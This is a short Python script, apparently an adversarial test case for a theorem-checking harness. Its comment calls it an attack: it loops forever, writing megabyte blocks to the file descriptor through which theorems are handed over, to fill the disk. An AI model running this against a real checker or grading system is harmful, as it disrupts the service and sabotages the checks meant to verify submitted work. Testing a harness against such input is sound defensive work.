# Attack: fill the disk through the file that the theorems are handed over in.
import os
import sys

block = b" " * 1_000_000
while True:
    os.write(int(sys.argv[2]), block)
